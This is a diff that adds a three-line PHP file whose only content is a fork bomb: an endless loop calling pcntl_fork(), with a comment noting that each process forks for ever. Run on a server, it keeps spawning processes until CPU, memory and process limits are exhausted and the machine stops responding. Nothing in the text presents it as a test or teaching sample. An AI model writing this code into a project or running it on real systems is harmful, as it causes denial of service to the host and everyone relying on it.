@@ -1,0 +1,3 @@
+<?php
+// Each process forks for ever.
+for (;;) pcntl_fork();
